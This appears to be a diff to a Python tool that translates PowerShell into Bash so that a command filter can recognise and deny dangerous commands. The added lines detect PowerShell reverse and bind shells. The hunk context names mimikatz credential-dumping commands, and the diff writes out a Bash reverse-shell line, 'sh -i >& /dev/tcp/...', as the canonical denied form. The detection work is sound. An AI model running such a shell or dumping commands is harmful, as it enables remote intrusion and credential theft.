@@ -477,6 +477,11 @@ def to_bash(code: str, depth: int = 0) -> str:
         # (probe round 33, residuals34) mimikatz' commands, whatever the program is called
         # (C:\Tools\m.exe 'sekurlsa::logonpasswords', Invoke-Mimikatz -Command 'lsadump::sam')
         return "mimikatz; " + to_bash(code, 1)
+    if _PS_SOCKET.search(code) and _PS_RUNS_READ.search(code):
+        # (probe round 35, published9) a TCP client or listener whose data is run (Nishang's
+        # and revshells' one-liners: iex $data, Invoke-Expression, [scriptblock]::Create,
+        # a cmd/powershell process with its standard input redirected): a reverse or bind shell
+        return REMOTE_SHELL
     if "\x00" in code:
         # an expression and the member it calls ((Get-Item C:\\).Delete($true))
         expr, _, member = code.partition("\x00")
@@ -669,6 +674,14 @@ _ITEM_DELETE = re.compile(r"(?i)\((?:get-item|gi|get-childitem|gci|ls|dir)\s+(?:
                           r"\s*\.delete\(")
 
 
+# (probe round 35, published9) a PowerShell reverse or bind shell: a socket (TcpClient,
+# TcpListener, UdpClient, Net.Sockets.Socket) and what it reads run as code; the Bash that
+# stands for it (an interactive shell on a /dev/tcp socket) is denied in every mode
+_PS_SOCKET = re.compile(r"(?i)\b(?:tcpclient|tcplistener|udpclient|net\.sockets\.socket)\b")
+_PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)?)?[\s(]*\$|"
+                           r"\[scriptblock\]\s*::\s*create\s*\(\s*\$|redirectstandardinput|"
+                           r"\binvoke-command\b[^;|]*-scriptblock\s*\(?\s*\[scriptblock\]")
+REMOTE_SHELL = "sh -i >& /dev/tcp/0.0.0.0/0 0>&1"
 _MIMIKATZ_TEXT = re.compile(r"(?i)\b(?:sekurlsa|lsadump|dpapi|vault|kerberos)::\w+")
 
 
